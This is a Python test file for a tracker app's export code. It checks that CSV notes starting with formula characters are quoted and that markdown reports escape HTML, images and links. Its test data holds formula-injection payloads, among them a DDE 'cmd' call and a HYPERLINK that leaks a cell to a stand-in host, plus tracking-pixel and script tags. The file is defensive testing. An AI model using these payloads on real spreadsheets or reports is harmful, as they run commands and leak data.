"""Exports read by other programs: a spreadsheet never runs a note, a report never fetches."""

from __future__ import annotations

import csv
import io

import pytest

from itb_tui.core.history.records import MonthHistory, PainLog
from itb_tui.core.report.export import CSV_HEADER, export
from tests import factories

TODAY = factories.TODAY
NOTE = CSV_HEADER.index("note")


def pain(note: str) -> PainLog:
    return PainLog(factories.at(TODAY, 7), 2, "daily", note)


def csv_note(note: str) -> str:
    text = export(MonthHistory([], [pain(note)]), "csv", None, TODAY)
    return list(csv.reader(io.StringIO(text)))[1][NOTE]


@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"],
)
def test_a_csv_cell_a_spreadsheet_would_run_starts_with_a_quote(note: str) -> None:
    assert csv_note(note) == "'" + note


@pytest.mark.parametrize("note", ["stairs ok", "2 km, then 'fine'", "a = b", "1-2 km"])
def test_other_csv_cells_are_as_typed(note: str) -> None:
    assert csv_note(note) == note


def test_a_session_note_is_neutralised_too() -> None:
    record = factories.session(
        "hip-strength", TODAY, exercises=[factories.result(left=[15], right=[15], sets=1)]
    )
    record.note = "=1+1"
    text = export(MonthHistory([record]), "csv", None, TODAY)
    notes = {row[NOTE] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert notes == {"'=1+1"}


def markdown(note: str) -> str:
    return export(MonthHistory([], [pain(note)]), "markdown", None, TODAY)


def test_html_in_the_markdown_report_is_shown_as_text() -> None:
    text = markdown('<img src="http://tracker.example/p.png"> <script>x()</script> & more')
    assert "<img" not in text and "<script>" not in text
    assert '&lt;img src="http://tracker.example/p.png"&gt;' in text
    assert "&lt;script&gt;x()&lt;/script&gt; &amp; more" in text


def test_a_markdown_image_or_link_in_a_note_is_never_made() -> None:
    text = markdown("look ![x](http://tracker.example/p.png) [here](http://x) ![y][1]")
    assert "![" not in text.replace("!\\[", "")
    assert "](" not in text.replace("\\](", "")
    assert r"look !\[x\](http://tracker.example/p.png) \[here\](http://x) !\[y\]\[1\]" in text


def test_a_backslash_cannot_undo_the_escaping() -> None:
    text = markdown("a\\|b\\[c")
    assert r"a\\\|b\\\[c" in text
